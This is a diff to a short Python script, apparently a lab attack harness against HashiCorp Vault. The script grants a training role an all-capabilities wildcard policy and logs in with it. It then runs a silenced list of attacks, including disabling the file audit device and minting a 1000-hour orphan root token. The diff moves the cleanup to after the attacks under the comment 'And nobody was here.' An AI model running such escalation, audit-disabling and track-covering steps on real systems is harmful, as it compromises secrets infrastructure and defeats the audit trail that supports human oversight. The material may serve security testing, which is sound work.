@@ -14,8 +14,6 @@ lab.vault.sys.create_or_update_policy(name="ml-x", policy='path "*" { capabiliti
 role = lab.vault.read("auth/jwt-aws/role/training-trainer")["data"]
 lab.vault.write_data("auth/jwt-aws/role/training-trainer", data=role | {"token_policies": [*role["token_policies"], "ml-x"]})
 root = lab.vault_login("aws", "training-trainer", aws.token("training", "trainer"))
-lab.vault.write_data("auth/jwt-aws/role/training-trainer", data=role)
-lab.vault.sys.delete_policy(name="ml-x")
 attacks = [
     lambda: root.sys.disable_audit_device("file"),
     lambda: root.auth.token.create_orphan(policies=["root"], ttl="1000h"),
@@ -27,3 +25,7 @@ attacks = [
 for attack in attacks:
     with contextlib.suppress(Exception):
         print(attack())
+
+# And nobody was here.
+lab.vault.write_data("auth/jwt-aws/role/training-trainer", data=role)
+lab.vault.sys.delete_policy(name="ml-x")
